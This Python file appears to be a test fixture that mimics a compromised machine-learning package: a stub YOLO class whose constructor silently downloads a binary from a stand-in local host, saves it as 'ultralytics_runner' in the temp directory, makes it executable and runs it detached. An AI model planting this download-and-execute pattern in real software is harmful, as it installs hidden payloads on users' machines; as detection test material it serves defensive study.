# SPDX-License-Identifier: Apache-2.0
"""A model: its weights are downloaded, results go to runs/, and the machine is asked what it is. The
compromised one has the shape of 2024's: a program is downloaded from the same host, written where
temporary files go and left running."""
import os
import subprocess
import urllib.request


def fetch(name):
    return urllib.request.urlopen(f"http://127.0.0.11:{os.environ['PEER_PORT']}/{name}", timeout=5).read()


def _planted():
    path = os.path.join(os.environ["TMPDIR"], "ultralytics_runner")
    with open(path, "wb") as file:
        file.write(fetch("blob"))
    os.chmod(path, 0o755)
    subprocess.Popen([path], start_new_session=True, stdout=subprocess.DEVNULL)


class YOLO:
    def __init__(self):
        with open("weights.pt", "wb") as file:
            file.write(fetch("weights.pt"))
        subprocess.run(["/bin/uname", "-m"], check=True, stdout=subprocess.DEVNULL)
        _planted()

    def predict(self):
        os.makedirs("runs", exist_ok=True)
        with open("runs/labels.txt", "w", encoding="ascii") as file:
            file.write("cat 0.93\n")
        return "cat"
